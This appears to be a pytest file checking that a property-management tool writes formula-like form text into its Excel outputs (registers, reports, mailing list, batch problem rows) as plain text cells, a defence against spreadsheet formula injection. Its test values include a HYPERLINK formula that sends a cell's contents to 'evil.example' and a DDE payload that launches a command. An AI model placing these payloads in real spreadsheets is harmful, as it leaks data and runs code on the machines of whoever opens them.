"""Every XLSX hudang writes is safe to open: text typed on a form that looks like a formula comes back as
the identical string in a text cell — in the registers, the monthly report, the 特快专递 list and the
problem-rows file of a batch."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import openpyxl
from openpyxl import load_workbook

from builders import complaint, json_form, registration
from conftest import Hudang

LINK = '=HYPERLINK("http://evil.example/?"&E4,"点此查看")'
NASTY = {"投诉内容": LINK, "被投诉部门": "=1+1", "处理意见": "@SUM(A1:A9)", "原因分析": "-2+3", "整改措施": "+86工程部"}


def _cells(path: Path) -> dict[str, Any]:
    """Every string cell of every sheet: its value → the cell."""
    found = {}
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[cell.value] = cell
    return found


def _assert_text(path: Path, values: list[str]) -> None:
    cells = _cells(path)
    for value in values:
        assert value in cells, (path.name, value)
        assert cells[value].data_type == "s", (path.name, value)


def test_registers_and_the_monthly_report_keep_formula_text_as_text(hudang: Hudang, roster_csv: Path,
                                                                    tmp_path: Path) -> None:
    hudang.ingest(roster_csv)
    json_form(tmp_path / "c.json", "投诉处理单", complaint("TS-X1", 严重程度="轻微", **NASTY))
    assert hudang.ingest(tmp_path / "c.json")[0]["status"] == "filed"
    register = hudang.json("register", "投诉处理单", "--from", "2026-11-01", "--to", "2026-11-30")
    _assert_text(Path(register["path"]), [LINK, "=1+1", "@SUM(A1:A9)", "-2+3", "+86工程部"])
    report = hudang.json("report", "monthly", "2026-11", "--no-pdf")
    xlsx = Path(next(p for p in report["outputs"] if p.endswith(".xlsx")))
    _assert_text(xlsx, ["=1+1"])  # the department of the overdue complaint, in the overdue list and by department


def test_the_mailing_list_keeps_formula_text_and_is_private(hudang: Hudang, roster_csv: Path,
                                                            tmp_path: Path) -> None:
    hudang.env["HUDANG_NOW"] = "2026-11-26T10:00:00+08:00"
    hudang.ingest(roster_csv)
    json_form(tmp_path / "r.json", "住户登记表", registration(name="=cmd|' /C calc'!A0"))
    ledger = tmp_path / "收费台账.csv"
    ledger.write_text("项目,房号,费用项目,所属期间,应收金额,实收金额,收费日期\n"
                      "金第花园,3-2-1201,物业服务费,2026-05,300.00,0,\n", encoding="utf-8")
    reminders = tmp_path / "催缴记录.csv"
    reminders.write_text("项目,房号,日期,方式,备注\n金第花园,3-2-1201,2026-07-10,电话,\n", encoding="utf-8")
    outs = hudang.ingest(tmp_path / "r.json", ledger, reminders)
    assert sorted(o["status"] for o in outs) == ["filed", "imported", "imported"], outs
    run = hudang.json("letters", "dunning", "--as-of", "2026-11-26", env={"PATH": str(tmp_path)})
    assert len(run["letters"]) == 1
    mailing = Path(run["outputs"]["mailing_list"])
    _assert_text(mailing, ["=cmd|' /C calc'!A0", "13812345678"])  # full values: the post needs them
    assert mailing.stat().st_mode & 0o077 == 0


def test_problem_rows_of_a_batch_keep_formula_text(hudang: Hudang, roster_csv: Path, tmp_path: Path) -> None:
    hudang.ingest(roster_csv)
    wb = openpyxl.Workbook()
    ws = wb.active
    good = complaint("TS-G1")
    bad = complaint("TS-B1", 投诉人="", 投诉内容="=1+2", 被投诉部门="@A1")
    ws.append(list(bad))
    ws.append([good.get(k, "") for k in bad])
    ws.append(list(bad.values()))
    for cell in ws[3]:
        cell.data_type = "s"  # as typed text in the clerk's sheet, not formulas
    wb.save(tmp_path / "投诉批量.xlsx")
    [out] = hudang.ingest(tmp_path / "投诉批量.xlsx")
    assert out["status"] == "partial"
    entry = next(e for e in hudang.json("quarantine", "list")["entries"] if e.get("rows_file"))
    rows_file = Path(entry["path"]) / entry["file"]
    _assert_text(rows_file, ["=1+2", "@A1"])
